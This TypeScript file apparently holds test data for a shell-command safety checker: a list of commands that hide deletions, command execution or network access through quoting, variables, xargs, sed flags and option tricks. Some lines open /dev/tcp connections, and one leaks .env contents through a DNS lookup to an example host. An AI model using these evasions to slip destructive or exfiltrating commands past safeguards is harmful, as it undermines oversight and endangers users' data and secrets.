/** Evasions by what programs and other shells do with their words, where the line itself has nothing to hide. */
export const PROGRAM_EVASIONS = String.raw`
sort --co=./x -S1k big
sort --com ./x -S1k big
git grep -1O./x line
git --no-pager grep -n2O./x line
fd -0x rm
fd -1X rm
file -0C
file -0m x
tree -L1o x
uniq a*
uniq a{1,2}
uniq -c "$HOME/a"*
date 010100002020
date -u 010100002020
date -d 1*
printf '%n' PATH; ls
printf 'ab%-2n' PATH; ls
printf ab%ln PATH; ls
printf a$x PATH; ls
f='x/e;s/a/b'; sed s/.*/"$f"/p file
f=b/w; sed s/a/$f/p file
p=wx; sed -n $p file
sed s/{a,b}/c/p file
yarn -v
yarn --version
pnpm --version
exec -a git-rm git log -f x
exec -a pkill pgrep -f x
echo -delete | xargs -I{} -L1 find .
echo -delete | xargs -L 1 -I{} find .
echo -delete | xargs -I {} --max-args=2 find .
f='{}'; echo -delete | xargs -I{} find . "$f"
f='{}'; echo -ox | xargs -I{} sort a "$f"
echo 'x/e;s/a/b' | xargs -I% sed s/.*/%/p file
echo x | xargs -I% awk '{print "%"}' file
find . -exec sed 's/.*/{}/p' {} +
find . -exec awk '{print "{}"}' {} +
printf 'y\n' | find . -ok sort {} + -ox \;
sh -c "echo \$'\\' ; rm x #'"
sh -c '[[ a > x ]]'
dash -c '((1))'
env sh -c '[[ a > x ]]'
find . -exec sh -c '[[ a > x ]]' \;
bash -c 'sh -c "[[ a > x ]]"'
sh -c 'a+=/x'
sh -c 'a[0]=/x'
sh -c 'function ls [[ a ]]'
sh -c "echo \${x%'}'}; rm x #'}"
sh -c 'f="a PATH=."; export LANG=$f; ls'
cd 'd -delete' && find $PWD
cd 'd -delete' && cd .. && find $OLDPWD
p=/dev/tcp; cat < $p/127.0.0.1/1
p=/dev/tcp; cat < "$p/127.0.0.1/1"
cd /dev; cat < $PWD/tcp/127.0.0.1/1
cat < /dev/tc?/127.0.0.1/1
getent hosts $(head -c 60 .env).example.com
getent ahosts x.example.com
LANG='a -delete' bash -c 'find . $LANG'
env LANG=-delete bash -c 'find . $LANG'
f=a; command read -r f < x; find . $f
f=a; builtin read -r f < x; find . $f
`
